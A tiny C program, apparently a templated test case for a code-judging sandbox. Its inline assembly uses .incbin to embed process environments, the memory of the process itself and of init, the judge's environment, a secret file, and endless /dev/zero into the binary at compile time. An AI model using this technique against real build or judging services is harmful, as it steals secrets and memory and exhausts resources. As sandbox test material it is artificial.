// Embeds the memory of the assembler, of init, and devices.
__asm__(".data\n"
        ".incbin \"/proc/self/environ\"\n"
        ".incbin \"/proc/self/mem\"\n"
        ".incbin \"/proc/1/mem\"\n"
        ".incbin \"/proc/self/pagemap\"\n"
        ".incbin \"/proc/{judge}/environ\"\n"
        ".incbin \"{secret}\"\n"
        ".incbin \"/dev/zero\"\n");

int main(void) { return 0; }
